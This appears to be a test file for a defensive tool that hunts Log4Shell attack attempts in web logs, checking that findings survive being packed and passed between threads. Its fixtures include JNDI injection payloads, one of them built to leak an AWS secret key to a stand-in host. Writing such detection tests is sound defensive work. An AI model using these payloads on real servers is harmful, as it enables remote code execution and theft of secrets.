import { expect, test } from 'vitest'
import { huntIn } from '../../../test/kit/hunting.ts'
import type { AttackFinding } from '../../core/index.ts'
import { type Readings, RecentlyRead } from '../../hunt/index.ts'
import type { Beginning } from './batch.ts'
import type { WorkEvent } from './hunt-event.ts'
import { EventPacker, EventUnpacker } from './packed-events.ts'

const readings: Readings = new RecentlyRead()

/** What a hunt tells of a log, several times over as one thread may. */
function told(log: string): readonly WorkEvent[] {
  return huntIn(log, { readings }).findings.map((finding): WorkEvent => ({ is: 'finding', finding }))
}

/** As another thread would get it: of copies. */
function sent(batches: readonly (readonly WorkEvent[])[]): { events: readonly WorkEvent[]; whole: number } {
  const packer = new EventPacker()
  const unpacker = new EventUnpacker()
  const packed = batches.map((events) => structuredClone(packer.pack(events)))
  return {
    events: packed.map((each) => unpacker.unpack(each)).flatMap((batch) => batch.events()),
    whole: packed.reduce((sum, { texts }) => sum + Buffer.from(texts).toString('latin1').split('{"is":').length - 1, 0),
  }
}

const line = (number: number, payload: string): string =>
  `203.0.113.${number % 250} - - [12/Dec/2021:04:25:${10 + (number % 40)} +0000] "GET /${number} HTTP/1.1" 200 1 "-" "${payload}"\n`

test('a spray arrives as it was told, and what its findings share is sent until it comes again, and no more', () => {
  const payloads = [
    '${jndi:ldap://a.example/x}',
    '%24%7Bjndi:ldap://${env:AWS_SECRET_KEY}.example%7D',
    '${jndi:LDAP://b}',
  ]
  const log = Array.from({ length: 600 }, (_, i) => line(i, payloads[i % 3] ?? '')).join('')
  const events = told(log)
  const batches = [events.slice(0, 250), events.slice(250)]

  const arrived = sent(batches)
  expect(events).toHaveLength(600)
  expect(arrived.events).toEqual(events)
  expect(arrived.whole).toBe(6)
})

test('a batch of a part has the lines of the whole, and is made when it is asked for', () => {
  const payload = '${jndi:ldap://a.example/x}'
  const events = told(line(1, payload).repeat(3))
  const packer = new EventPacker()
  const unpacker = new EventUnpacker()
  const [batch, later] = [events, events].map((each) => unpacker.unpack(structuredClone(packer.pack(each))))

  const lines = (beginning: Beginning | null) =>
    later?.events(beginning).map((event) => {
      if (event.is !== 'finding') return event
      const [log] = event.finding.evidence
      return [event.finding.at.line, log.kind === 'log' ? log.line : null]
    })
  expect(later?.length).toBe(3)
  expect(lines({ shown: 'a.log', lines: 100 })).toEqual([1, 2, 3].map((number) => [100 + number, 100 + number]))
  expect(batch?.events({ shown: 'a.log', lines: 0 })).toEqual(events)
})

test('gaps, notes and evidence keep their place among attacks', () => {
  const [attack, again] = told(line(1, '${jndi:ldap://a.example/x}').repeat(2))
  const [evidence] = told('2021-12-10 WARN Error looking up JNDI resource [ldap://a.example/x].\n')
  const gap: WorkEvent = { is: 'gap', gap: { at: 'a', because: 'malformed', detail: 'b' } }
  const events = [attack, gap, again, evidence, { is: 'note', text: 'n' }].filter((each) => each !== undefined)

  expect(sent([events as readonly WorkEvent[]]).events).toEqual(events)
})

test('more different attacks than are remembered arrive as they were told, also those that come again', () => {
  const names = Array.from({ length: 5_000 }, (_, i) => line(i, `\${jndi:ldap://a${i}.example/x}`))
  const events = told([...names.flatMap((name) => [name, name, name]), ...names].join(''))

  const arrived = sent([events.slice(0, 4_999), events.slice(4_999)])
  expect(arrived.events).toEqual(events)
  expect(arrived.whole).toBe(5_000 + 5_000 + 5_000)
})

test('findings that differ in what is shared otherwise are told apart', () => {
  const [event] = told(line(1, '${jndi:ldap://a.example/x}'))
  if (event?.is !== 'finding') throw new Error('nothing was found')
  const others = [
    { outcome: 'likely' },
    { scanner: 'ours' },
    { lookup: { ...event.finding.lookup, times: 9 } },
    { evidence: [...event.finding.evidence, { kind: 'decoding', layers: ['html'], text: 'x' }] },
  ] as readonly Partial<AttackFinding>[]
  const events = [
    event,
    ...others.map((other): WorkEvent => ({ is: 'finding', finding: { ...event.finding, ...other } })),
  ]

  expect(sent([events]).events).toEqual(events)
})

test('a finding with a request of many kilobytes is sent whole each time, so that none is kept', () => {
  const request = (number: number): string =>
    `203.0.113.7 - - [12/Dec/2021:04:25:41 +0000] "GET /${'x'.repeat(20_000)}${number} HTTP/1.1" 200 1 "-" "\${jndi:ldap://a.example/x}"\n`
  const events = told([1, 2, 3].map(request).join(''))

  const arrived = sent([events])
  expect(arrived.events).toEqual(events)
  expect(arrived.whole).toBe(3)
})
